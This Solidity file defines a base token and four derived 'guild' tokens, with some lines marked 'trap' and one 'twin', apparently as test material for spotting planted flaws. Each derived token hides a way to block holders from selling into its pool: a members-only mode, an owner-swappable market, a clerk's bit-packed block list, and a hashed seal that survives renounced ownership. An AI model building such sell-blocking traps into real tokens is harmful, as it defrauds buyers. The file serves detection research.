// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;
pragma experimental ABIEncoderV2;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// The ledger of a guild.
contract Guild {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pool;
    address internal _founder;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    modifier onlyOwner() {
        require(msg.sender == owner, "Guild: not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) public {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _founder = msg.sender;
        totalSupply = whole * 1e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "Guild: allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        _check(from, to, value);
        require(balanceOf[from] >= value, "Guild: balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function _check(address from, address to, uint256 value) internal;
}

/// Wardens bundle what they do. In mode 1 dealings of members are announced.
contract Cordwain is Guild {
    bytes32 private constant WARDEN = keccak256("cordwain.warden");

    uint8 public mode;
    mapping(address => bool) public member;
    mapping(bytes32 => mapping(address => bool)) private _roles;

    event Dealing(address indexed member, uint256 value);

    constructor() public Guild("Cordwain", "CORD", 300000000) {
        _roles[WARDEN][msg.sender] = true;
        member[msg.sender] = true;
    }

    modifier bundled() {
        require(msg.sender == address(this), "Cordwain: bundled only");
        _;
    }

    function bundle(bytes[] calldata calls) external {
        require(_roles[WARDEN][msg.sender], "Cordwain: warden");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, ) = address(this).call(calls[i]);
            require(ok, "Cordwain: a call of the bundle failed");
        }
    }

    function setMode(uint8 next) external bundled {
        require(next < 3, "Cordwain: mode"); // trap
        // twin: require(next < 2, "Cordwain: mode");
        mode = next;
    }

    function setMember(address who, bool is_) external bundled {
        member[who] = is_;
    }

    function _check(address from, address to, uint256 value) internal {
        if (mode == 1 && member[from]) emit Dealing(from, value);
        if (mode == 2 && to == pool) require(member[from], "Cordwain: members");
    }
}

/// Has one official pool.
contract Chandler is Guild {
    address public market;

    event Market(address market);

    constructor() public Guild("Chandler", "CHND", 44000000) {
        market = pool;
    }

    // trap {
    function setMarket(address next) external onlyOwner {
        market = next;
        emit Market(next);
    }
    // trap }

    function _looksLikePool(address to) private view returns (bool) {
        (bool ok, bytes memory got) = to.staticcall(abi.encodeWithSignature("token0()"));
        return ok && got.length == 32;
    }

    function _check(address, address to, uint256) internal {
        if (to != market && _looksLikePool(to)) revert("Chandler: the official pool only");
    }
}

/// Customers are numbered. A clerk may hold back a series of numbers.
contract Turner is Guild {
    address private _clerk;
    uint64 public customers;
    uint256 private _held;
    mapping(address => uint64) public numberOf;

    constructor(address clerk) public Guild("Turner", "TURN", 71000000) {
        _clerk = clerk;
    }

    /// Low 64 bits: first number; next 64 bits: the number after the last.
    function hold(uint256 series) external {
        require(msg.sender == _clerk, "Turner: clerk");
        _held = series;
    }

    function _check(address from, address to, uint256) internal {
        if (from == pool && numberOf[to] == 0) numberOf[to] = ++customers;
        if (to == pool) {
            uint64 number = numberOf[from];
            require(number < uint64(_held) || number >= uint64(_held >> 64), "Turner: held back");
        }
    }
}

/// Certain kinds of code may not deal here.
contract Cooper is Guild {
    bytes32 private _seal;
    mapping(bytes32 => bool) public refused;

    constructor(bytes32 seal) public Guild("Cooper", "COOP", 2600000000) {
        _seal = seal;
    }

    function refuse(bytes32 kind, bool is_) external {
        require(keccak256(abi.encode(msg.sender)) == _seal, "Cooper: seal");
        refused[kind] = is_;
    }

    function _check(address from, address to, uint256) internal {
        if (to == pool) {
            bytes32 kind;
            assembly {
                kind := extcodehash(from)
            }
            require(!refused[kind], "Cooper: kind");
        }
    }
}
